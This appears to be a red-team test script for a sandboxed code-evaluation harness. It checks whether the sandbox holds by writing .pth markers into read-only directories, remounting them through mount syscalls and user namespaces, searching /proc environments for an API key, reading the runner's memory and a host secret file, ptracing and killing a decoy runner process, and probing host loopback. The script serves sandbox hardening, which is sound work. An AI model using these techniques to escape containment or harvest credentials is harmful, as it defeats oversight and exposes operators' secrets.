# --- red-team attack: break out of the sandbox while being loaded --------------------------------------
# Parameters (ATTACK): token (marker names), decoy_pid (stands in for the runner), runner_pid and
# runner_cmdline (to tell the runner from a sandbox process with the same pid), port (a
# listening socket on the host's loopback), secret_file (a host file only the runner's user may read),
# targets (host directories that must stay read-only), secret_name (the variable to hunt for).
# Each sub-attack prints one line: REDTEAM <name> BREACH|held <detail>.


def _redteam_escape(params):
    import ctypes
    import glob
    import json
    import os
    import signal
    import site
    import socket
    import subprocess
    import sys

    libc = ctypes.CDLL(None, use_errno=True)
    token = params["token"]

    def say(name, breach, detail=""):
        print(f"REDTEAM {name} {'BREACH' if breach else 'held'} {detail}"[:250], flush=True)

    here = os.getcwd()
    places = set(params.get("targets", []))
    try:
        with open(os.path.join(here, "request.json")) as handle:
            request = json.load(handle)
        places.add(os.path.dirname(request["adapter"]))
    except (OSError, ValueError, KeyError):
        pass
    if sys.argv and sys.argv[0]:
        places.add(os.path.dirname(os.path.abspath(sys.argv[0])))  # the harness (child.py) and shared inputs
    places.update(site.getsitepackages())
    places.update([sys.prefix, "/usr/lib", "/usr/local/lib"])  # shared with the host (not the private /)
    places = sorted(p for p in places if p and os.path.isdir(p) and p != here)  # its own folder is writable

    def write_marker(place):
        path = os.path.join(place, f"redteam_{token}.pth")  # a .pth: what a virtualenv attack would plant
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
        except OSError:
            return False
        os.write(fd, b"# red-team marker: harmless comment line\n")
        os.close(fd)
        return True

    # 1. plain writes into read-only places (problem, harness, data, virtualenv, system)
    wrote = [p for p in places if write_marker(p)]
    say("write-readonly", bool(wrote), ",".join(wrote) or f"{len(places)} places refused")

    # 2. remount them read-write: mount(2) directly, mount(8), and from a fresh user namespace
    ms_remount, ms_bind = 32, 4096
    remounted = []
    for place in places:
        if libc.mount(b"none", place.encode(), None, ms_remount | ms_bind, None) == 0:
            remounted.append(place)
    say("remount-syscall", bool(remounted), ",".join(remounted) or os.strerror(ctypes.get_errno()))
    for tool in (["mount", "-o", "remount,bind,rw"], ["unshare", "-Urm", "mount", "-o", "remount,bind,rw"]):
        landed = []
        for place in places:
            try:
                done = subprocess.run([*tool, place], capture_output=True, timeout=10)
            except (OSError, subprocess.SubprocessError):
                continue
            if done.returncode == 0 and write_marker(place):
                landed.append(place)
        say(f"remount-{tool[0]}", bool(landed), ",".join(landed))
    wrote = [p for p in places if write_marker(p)]
    say("write-after-remount", bool(wrote), ",".join(wrote))

    # 3. other processes: environments (the runner's API key), working directories, open files
    secret_name = params.get("secret_name", "OPENAI_API_KEY").encode() + b"="
    found, seen_runner = [], []
    for entry in glob.glob("/proc/[0-9]*"):
        pid = int(entry.rsplit("/", 1)[1])
        try:
            with open(f"{entry}/environ", "rb") as handle:
                environ = handle.read()
        except OSError:
            environ = b""
        for item in environ.split(b"\0"):
            if item.startswith(secret_name):
                found.append(f"{pid}:{item.decode(errors='replace')}")
        try:
            with open(f"{entry}/cmdline", "rb") as handle:
                cmdline = handle.read().replace(b"\0", b" ")
        except OSError:
            cmdline = b""
        if cmdline == params["runner_cmdline"].encode() or (pid == params["decoy_pid"] and b"sleep" in cmdline):
            seen_runner.append(pid)
    say("proc-environ", bool(found), " ".join(found) or "no key in any readable environ")
    say("proc-runner-visible", bool(seen_runner), ",".join(map(str, seen_runner)))
    runner = params.get("runner_pid")
    reached = []
    try:
        with open(f"/proc/{runner}/cmdline", "rb") as handle:
            is_runner = handle.read().replace(b"\0", b" ") == params["runner_cmdline"].encode()  # not ours
    except OSError:
        is_runner = False
    for what in ("environ", "cwd", "fd", "mem", "root/etc/hostname"):
        path = f"/proc/{runner}/{what}"
        try:
            if what in ("cwd", "fd"):
                os.listdir(path)
            else:
                with open(path, "rb") as handle:
                    handle.read(64)
            reached.append(what)
        except OSError:
            pass
    say("proc-runner-files", is_runner and bool(reached), ",".join(reached) if is_runner else "runner not visible")
    try:
        with open(params["secret_file"]) as handle:
            say("read-host-file", True, handle.read()[:80])
    except (OSError, KeyError) as exc:
        say("read-host-file", False, type(exc).__name__)

    # 4. trace and signal the runner's stand-in
    decoy = params["decoy_pid"]
    ptrace_seize, ptrace_attach, ptrace_detach = 0x4206, 16, 17
    traced = []
    for request_code in (ptrace_seize, ptrace_attach):
        if libc.ptrace(request_code, decoy, None, None) == 0:
            traced.append(hex(request_code))
            libc.ptrace(ptrace_detach, decoy, None, None)
    say("ptrace-runner", bool(traced), ",".join(traced) or os.strerror(ctypes.get_errno()))
    signalled = []
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(decoy, number)
            signalled.append(signal.Signals(number).name)
        except OSError:
            pass
    say("signal-runner", bool(signalled), ",".join(signalled))

    # 5. the network: the host's loopback
    try:
        socket.create_connection(("127.0.0.1", params["port"]), timeout=2).close()
        say("network", True, f"connected to the host's port {params['port']}")
    except OSError as exc:
        say("network", False, type(exc).__name__)

    # 6. capabilities left
    try:
        with open("/proc/self/status") as handle:
            status = dict(line.split(":\t", 1) for line in handle.read().splitlines() if ":\t" in line)
        effective = int(status.get("CapEff", "0").strip(), 16)
        say("capabilities", effective != 0, f"CapEff={effective:x} uid={os.getuid()}")
    except OSError as exc:
        say("capabilities", False, type(exc).__name__)


_redteam_escape(ATTACK)
